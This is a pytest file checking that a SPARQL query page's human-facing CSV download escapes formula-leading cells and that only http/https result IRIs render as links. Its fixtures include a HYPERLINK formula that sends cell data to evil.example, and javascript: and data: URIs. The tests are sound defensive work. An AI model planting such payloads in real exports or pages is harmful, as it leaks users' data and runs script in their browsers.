"""The query page offers people safe results: spreadsheet-safe CSV, and links only to web pages.

Issue 9, finding 5. A CSV opened in a spreadsheet runs any cell that starts with ``=``, ``+``,
``-`` or ``@`` (and tab or CR) as a formula — ``=HYPERLINK(...)`` from a shared query was live. The
OWASP rule ("CSV Injection"): prefix such a cell with ``'``. The endpoint's ``text/csv`` is an API
for programs and stays exact (SPARQL 1.1 CSV). And a result IRI such as ``javascript:alert(1)``
must not become a link a person can click.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest

# Cells as a spreadsheet must see them: (value in the results, cell of the CSV offered to people).
CELLS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\tx", "'\tx"),
    ("\r=1", "'\r=1"),
    ("plain, with a comma", "plain, with a comma"),
    ("ไทย", "ไทย"),
]  # fmt: skip
IRIS = [
    ("javascript:alert(1)", False),
    ("JaVaScRiPt:alert(2)", False),
    ("data:text/html,hi", False),
    ("mailto:someone@example.org", False),
    ("http://example.org/a", True),
    ("https://example.org/b", True),
]


def sparql_string(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + escaped.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n") + '"'


VALUES_QUERY = (
    "SELECT ?n ?v WHERE { VALUES (?n ?v) { "
    + " ".join(f"({i} {sparql_string(value)})" for i, (value, _) in enumerate(CELLS))
    + " } } ORDER BY ?n"
)
IRI_QUERY = "SELECT ?x WHERE { VALUES ?x { " + " ".join(f"<{iri}>" for iri, _ in IRIS) + " } }"


def run_on_page(page, url: str, query: str) -> None:
    page.goto(url + "/sparql")
    page.focus("#query")  # the YASQE editor is loaded when the reader reaches for the query box
    page.wait_for_selector(".CodeMirror")
    page.evaluate("q => document.querySelector('.CodeMirror').CodeMirror.setValue(q)", query)
    page.click("#run")
    page.wait_for_selector("table.sparql-results tbody tr")


@pytest.mark.browser
def test_the_csv_offered_to_people_neutralises_formulas(server, browser) -> None:
    page = browser.new_page(accept_downloads=True)
    run_on_page(page, server.url, VALUES_QUERY)
    with page.expect_download() as download_info:
        page.click("#download-csv")
    text = Path(download_info.value.path()).read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["n", "v"]
    assert [row[1] for row in rows[1:]] == [cell for _, cell in CELLS]
    page.close()


def test_the_endpoint_csv_stays_exact(server) -> None:
    answer = server.get("/sparql?query=" + quote(VALUES_QUERY), headers={"Accept": "text/csv"})
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8"), newline="")))
    assert [row[1] for row in rows[1:]] == [value for value, _ in CELLS]


@pytest.mark.browser
def test_only_web_iris_become_links(server, browser) -> None:
    page = browser.new_page()
    run_on_page(page, server.url, IRI_QUERY)
    cells = page.locator("table.sparql-results tbody td")
    assert cells.count() == len(IRIS)
    shown = {}
    for i in range(cells.count()):
        cell = cells.nth(i)
        links = cell.locator("a")
        title = cell.locator("[title]").first.get_attribute("title")
        shown[title] = links.get_attribute("href") if links.count() else None
    for iri, is_link in IRIS:
        assert (shown[iri] == iri) if is_link else (shown[iri] is None), (iri, shown[iri])
    page.close()


class ResultCells(HTMLParser):
    """The cells of the page's result table: each cell's text and the href of its link, if any."""

    def __init__(self) -> None:
        super().__init__()
        self.in_table = False
        self.cells: list[list] = []  # [text, href]

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag == "table" and "sparql-results" in (dict(attrs).get("class") or ""):
            self.in_table = True
        elif self.in_table and tag == "td":
            self.cells.append(["", None])
        elif self.in_table and tag == "a" and self.cells:
            self.cells[-1][1] = dict(attrs).get("href")

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self.in_table = False

    def handle_data(self, data: str) -> None:
        if self.in_table and self.cells:
            self.cells[-1][0] += data


def test_without_javascript_only_web_iris_become_links(server) -> None:
    """A shared ``?query=`` link renders its results on the server, for readers without scripts:
    the same rule holds there."""
    page = server.get("/sparql?query=" + quote(IRI_QUERY), headers={"Accept": "text/html"})
    assert page.status_code == 200
    parser = ResultCells()
    parser.feed(page.text)
    shown = {text.strip(): href for text, href in parser.cells}
    assert set(shown) == {iri for iri, _ in IRIS}, shown
    for iri, is_link in IRIS:
        assert (shown[iri] == iri) if is_link else (shown[iri] is None), (iri, shown[iri])
